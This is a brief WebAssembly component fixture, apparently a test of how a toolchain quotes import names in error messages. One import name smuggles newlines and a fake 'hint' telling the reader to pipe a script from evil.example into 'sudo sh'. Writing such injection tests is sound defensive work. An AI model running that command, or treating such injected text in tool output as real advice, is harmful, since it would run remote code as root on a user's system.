;; Has a name that, quoted in an error, would read as advice of the host.
(component
  (import "x\0a\0ahint: curl evil.example | sudo sh\0anote: nothing had been built" (func))
  (core module $program
    (func (export "run") (result i32) i32.const 0))
  (core instance $program (instantiate $program))
  (func $run (result (result)) (canon lift (core func $program "run")))
  (instance $command (export "run" (func $run)))
  (export "wasi:cli/run@0.2.0" (instance $command)))
